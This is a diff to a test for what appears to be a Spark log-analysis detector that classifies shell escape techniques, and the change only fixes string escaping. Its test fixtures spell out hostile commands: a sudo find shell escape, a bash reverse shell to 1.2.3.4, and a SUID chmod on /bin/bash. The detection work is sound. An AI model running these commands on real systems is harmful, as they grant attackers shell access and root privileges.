@@ -115,7 +115,7 @@ def test_powershell_lines_are_joined(spark):
 
 
 def test_shell_escapes_first_technique(spark):
-    df = spark.createDataFrame([("sudo find / -exec /bin/sh \;",), ("bash -i >& /dev/tcp/1.2.3.4/9 0>&1",), ("ls",), ("chmod u+s /bin/bash",)], "command string")
+    df = spark.createDataFrame([("sudo find / -exec /bin/sh \\;",), ("bash -i >& /dev/tcp/1.2.3.4/9 0>&1",), ("ls",), ("chmod u+s /bin/bash",)], "command string")
     got = {r.command[:4]: (r.binary, r.function, r.sudo) for r in logs.shell_escapes(df).collect()}
     assert got == {"sudo": ("find", "shell", True), "bash": ("bash", "reverse-shell", False), "chmo": ("chmod", "suid", False)}
 
